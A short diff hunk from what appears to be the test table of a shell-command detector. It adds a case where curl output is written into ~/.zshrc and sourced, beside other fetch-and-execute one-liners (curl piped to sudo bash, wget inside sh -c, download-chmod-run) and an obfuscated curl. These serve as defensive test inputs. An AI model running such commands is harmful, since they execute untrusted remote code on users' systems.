@@ -27,6 +27,7 @@ def rules(text: str) -> set[str]:
         ("script-runs-downloaded", "curl -fsSL https://a.example/i.sh | sudo bash -s -- -y"),
         ("script-runs-downloaded", "curl -fsSL \\\n  https://a.example/i.sh \\\n  | bash"),
         ("script-runs-downloaded", "bash <(curl -s https://a.example/x)"),
+        ("script-runs-downloaded", "curl -s https://a.example/x | tee ~/.zshrc\nsource ~/.zshrc"),
         ("script-runs-downloaded", 'sh -c "$(wget -qO- https://a.example/x)"'),
         ("script-runs-downloaded", "curl -o /tmp/h https://a.example/h\nchmod +x /tmp/h\n/tmp/h"),
         ("script-hides-names", "c\\u\\rl https://a.example"),
